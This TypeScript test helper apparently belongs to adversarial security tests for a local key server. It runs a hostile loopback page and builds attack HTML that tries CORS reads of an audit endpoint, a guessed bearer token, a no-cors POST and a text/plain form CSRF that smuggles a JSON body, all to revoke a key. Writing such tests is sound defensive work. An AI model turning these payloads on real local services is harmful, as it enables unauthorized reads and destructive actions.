import http from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * A hostile page on another loopback port (docs/security-model.md#adversarial-tests): it serves attack.html and collects
 * what each attack managed to read on /report. Any local program could serve such a page.
 */
export async function startAttackerServer(attackHtml: string) {
  const reports: Record<string, string>[] = [];
  const cookiesSeen: string[] = [];
  const server = http.createServer((req, res) => {
    if (req.headers.cookie) cookiesSeen.push(req.headers.cookie);
    if (req.url === '/report' && req.method === 'POST') {
      let body = '';
      req.on('data', (chunk) => (body += chunk));
      req.on('end', () => {
        reports.push(JSON.parse(body));
        res.end('ok');
      });
      return;
    }
    res.setHeader('content-type', 'text/html');
    res.end(attackHtml);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    reports,
    cookiesSeen,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections(); // the browser keeps connections alive; close() alone would wait for them
      }),
  };
}

/** The attacks of that page, each reporting "blocked" or what it could read. */
export function attackPage(target: string, keyId: string): string {
  return `<!doctype html><meta charset="utf-8"><title>attack</title><body>
<iframe name="sink" style="display:none"></iframe>
<form id="f" method="POST" enctype="text/plain" action="${target}/api/keys/${keyId}/revoke" target="sink">
  <input name='{"keyPassphrase":"demo-key-pass","x":"' value='"}'>
</form>
<script>
const report = (attack, outcome) => fetch('/report', { method: 'POST', body: JSON.stringify({ attack, outcome }) });
const attempt = async (attack, run) => {
  try { report(attack, 'read: ' + String(await run()).slice(0, 80)); } catch (error) { report(attack, 'blocked'); }
};
(async () => {
  await attempt('cors-read-audit', () => fetch('${target}/api/audit').then((r) => r.text()));
  await attempt('cors-read-with-credentials', () => fetch('${target}/api/audit', { credentials: 'include' }).then((r) => r.text()));
  await attempt('guess-bearer-token', () => fetch('${target}/api/audit', { headers: { authorization: 'Bearer guess' } }).then((r) => r.text()));
  await attempt('no-cors-revoke', () => fetch('${target}/api/keys/${keyId}/revoke', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ keyPassphrase: 'demo-key-pass' }) }).then((r) => 'opaque:' + r.type));
  document.getElementById('f').submit();
  const img = new Image(); img.src = '${target}/api/keys/${keyId}/revoke';
  await new Promise((resolve) => setTimeout(resolve, 1500));
  report('done', 'done');
})();
</script></body>`;
}
